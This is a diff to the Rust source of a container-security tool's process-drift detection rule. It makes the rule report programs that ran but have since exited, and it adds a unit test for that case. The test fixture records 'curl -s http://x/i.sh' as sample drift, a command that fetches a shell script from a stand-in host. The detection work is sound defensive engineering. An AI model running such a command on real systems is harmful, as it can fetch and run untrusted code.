@@ -16,17 +16,18 @@ fn check(w: &Workload) -> Vec<Hit> {
     else {
         return Vec::new();
     };
+    let when = |t: jiff::Timestamp| t.strftime("%Y-%m-%d %H:%M:%S UTC").to_string();
     let mut reported = BTreeSet::new();
-    runtime
+    // Running now: one hit per new program, however many copies run.
+    let mut hits: Vec<Hit> = runtime
         .processes
         .iter()
         .filter(|p| !profile.knows(p))
-        // One hit per new program, however many copies run.
         .filter(|p| reported.insert(p.profile_key()))
         .map(|p| {
             let seen = p
                 .first_seen
-                .map(|t| format!(", first seen {}", t.strftime("%Y-%m-%d %H:%M:%S UTC")))
+                .map(|t| format!(", first seen {}", when(t)))
                 .unwrap_or_default();
             Hit::new(
                 Severity::High,
@@ -41,7 +42,28 @@ fn check(w: &Workload) -> Vec<Hit> {
             )
             .about(w.name.clone())
         })
-        .collect()
+        .collect();
+    // Seen before and gone now: still drift until someone looks and learns again.
+    hits.extend(
+        profile
+            .drift
+            .iter()
+            .filter(|d| !reported.contains(&d.program))
+            .map(|d| {
+                Hit::new(
+                    Severity::High,
+                    format!(
+                        "`{}` is not in the learned profile of {}: {} ran, first seen {}; not running now",
+                        d.program,
+                        profile.image,
+                        d.example,
+                        when(d.first_seen)
+                    ),
+                )
+                .about(w.name.clone())
+            }),
+    );
+    hits
 }
 
 pub static PROCESS_DRIFT: Rule = Rule {
@@ -55,7 +77,7 @@ pub static PROCESS_DRIFT: Rule = Rule {
         advice: "Find out who started it: `docker top {subject}`, `docker events --filter \
                  container={subject} --filter event=exec_start`, the audit log of whoever can reach \
                  the Docker socket. If it is legitimate (a new release runs a new helper), press \
-                 `l` on the container to learn again. If not, pause it (`p` in shipshape, or \
+                 `l` on the container to learn again (it asks first, naming what it will accept). If not, pause it (`p` in shipshape, or \
                  `docker pause {subject}`), keep it for forensics (`docker diff`, `docker export`), \
                  and rebuild from a trusted image. Make drift harder: read-only root filesystem, \
                  no shell in the image, no new privileges.",
@@ -91,6 +113,7 @@ mod tests {
                 state,
                 until: jiff::Timestamp::UNIX_EPOCH,
                 known: vec!["httpd".into(), "sleep".into()],
+                drift: Vec::new(),
             }),
         });
         w
@@ -123,6 +146,26 @@ mod tests {
         );
         assert!(check(&known).is_empty());
         assert!(check(&docker()).is_empty());
+    }
+
+    #[test]
+    fn a_program_that_ran_and_exited_stays_drift() {
+        let mut w = watched(
+            ProfileState::Watching,
+            vec![process(10, "sleep", "sleep 1d")],
+        );
+        if let Some(p) = w.runtime.as_mut().and_then(|r| r.profile.as_mut()) {
+            p.drift.push(crate::model::runtime::DriftSeen {
+                program: "curl".into(),
+                first_seen: "2026-11-29T07:40:12Z".parse().unwrap(),
+                example: "curl -s http://x/i.sh".into(),
+            });
+        }
+        let hits = check(&w);
+        assert_eq!(hits.len(), 1);
+        assert!(
+            hits[0].evidence.contains("`curl`") && hits[0].evidence.ends_with("not running now")
+        );
     }
 
     #[test]
